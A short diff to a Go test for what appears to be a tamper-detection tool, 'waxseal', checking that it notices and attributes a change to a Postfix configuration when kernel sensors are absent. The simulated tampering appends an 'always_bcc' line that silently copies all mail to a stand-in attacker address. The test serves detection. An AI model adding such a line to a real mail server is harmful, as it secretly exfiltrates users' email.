@@ -69,8 +69,8 @@ func TestWithoutSensors(t *testing.T) {
 	h.must("seal")
 	w := h.watch()
 	h.append("/etc/postfix/main.cf", "always_bcc = box@evil.example.net\n")
-	f := w.find("the copy, found by reading again", isNew("mail-copy"))
-	if f.Unobserved == nil || f.Actor.Process.Grade != waxseal.Unknown {
+	f := w.find("the copy, which inotify told of", isNew("mail-copy"))
+	if f.Unobserved != nil || f.Actor.Process.Grade != waxseal.Unknown {
 		t.Errorf("unobserved %v, actor %+v", f.Unobserved, f.Actor)
 	}
 	for _, sensor := range []string{"without fanotify", "without kaudit"} {
